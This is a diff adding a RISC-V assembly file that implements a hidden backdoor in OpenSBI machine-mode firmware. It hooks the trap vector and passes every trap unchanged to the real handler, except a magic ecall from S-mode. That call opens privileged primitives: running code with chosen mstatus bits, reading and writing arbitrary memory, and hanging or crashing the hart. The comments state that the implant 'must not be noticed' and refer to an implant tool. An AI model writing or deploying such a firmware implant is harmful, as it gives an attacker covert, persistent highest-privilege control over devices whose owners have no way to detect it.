@@ -1,0 +1,133 @@
+/* SPDX-License-Identifier: BSD-2-Clause */
+/*
+ * What mtvec of a firmware with a back door leads to. It must not be noticed:
+ * all but a magic call goes on to the firmware's own handler, with all
+ * registers as they were.
+ *
+ * OpenSBI's handler begins by swapping tp with mscratch, which holds this
+ * hart's scratch area, and by putting t0 into a slot (SLOT) of that area. Here
+ * the same is done and undone. tools/implant finds SLOT and the handlers.
+ */
+#include "door.h"
+
+#define MCAUSE_ECALL_S	9
+#define MPRV		(1 << 17)
+
+	.macro	door real
+	.balign	4
+	csrrw	tp, mscratch, tp
+	sd	t0, SLOT(tp)
+	li	t0, DOOR_EID
+	bne	t0, a7, 1f
+	csrr	t0, mcause
+	addi	t0, t0, -MCAUSE_ECALL_S
+	beqz	t0, open
+1:	ld	t0, SLOT(tp)
+	csrrw	tp, mscratch, tp
+	j	\real
+	.endm
+
+	.section .entry, "ax"
+	.globl	_start
+_start:
+	j	door_0
+	.balign	8
+	j	door_1
+door_0:
+	door	real_0
+door_1:
+	door	real_1
+
+	.macro	for_x op
+	.irp	n, 1,3,6,7,8,9,10,11,12,13,14,15,16,17,18,19,20,21,22,23,24,25,26,27,28,29,30,31
+	\op	x\n, \n * 8(sp)
+	.endr
+	.endm
+
+	/* The caller is in S-mode, so the stack below the scratch area is free. */
+open:
+	sd	sp, -256 + 16(tp)
+	addi	sp, tp, -256
+	for_x	sd
+	ld	t0, SLOT(tp)
+	sd	t0, 5 * 8(sp)
+	csrrw	t0, mscratch, tp
+	sd	t0, 4 * 8(sp)
+	csrr	s0, mstatus
+	csrr	s1, mepc
+	addi	s1, s1, 4
+	mv	a0, sp
+	call	door_call		/* a0: the pc to go on at, or 0 */
+	beqz	a0, 2f
+	mv	s1, a0
+2:	csrw	mstatus, s0
+	csrw	mepc, s1
+	for_x	ld
+	ld	tp, 4 * 8(sp)
+	ld	t0, 5 * 8(sp)
+	ld	sp, 2 * 8(sp)
+	mret
+
+	/*
+	 * u64 door_try(code, a, b, mprv, &cause): call code(a, b) with
+	 * these bits of mstatus set; an exception in it ends it.
+	 */
+	.globl	door_try
+door_try:
+	addi	sp, sp, -48
+	sd	ra, 0(sp)
+	sd	s0, 8(sp)
+	sd	s1, 16(sp)
+	sd	s2, 24(sp)
+	sd	s3, 32(sp)
+	mv	s0, sp
+	mv	s1, a4
+	mv	s2, a3
+	mv	t0, a0
+	la	t1, caught
+	csrrw	s3, mtvec, t1
+	mv	a0, a1
+	mv	a1, a2
+	csrs	mstatus, s2
+	jalr	t0
+	li	t0, -1
+3:	csrc	mstatus, s2
+	csrw	mtvec, s3
+	sd	t0, 0(s1)
+	mv	sp, s0
+	ld	ra, 0(sp)
+	ld	s0, 8(sp)
+	ld	s1, 16(sp)
+	ld	s2, 24(sp)
+	ld	s3, 32(sp)
+	addi	sp, sp, 48
+	ret
+	.balign	4
+caught:
+	csrr	t0, mcause
+	li	a0, 0
+	j	3b
+
+	.globl	door_ld, door_sw, door_lbu, door_sb
+door_ld:
+	ld	a0, 0(a0)
+	ret
+door_sw:
+	sw	a1, 0(a0)
+	ret
+door_lbu:
+	lbu	a0, 0(a0)
+	ret
+door_sb:
+	sb	a1, 0(a0)
+	ret
+
+	.globl	door_loop, door_sleep, door_crash
+door_loop:
+	j	door_loop
+door_sleep:
+	csrw	mie, zero
+4:	wfi
+	j	4b
+door_crash:
+	jr	zero
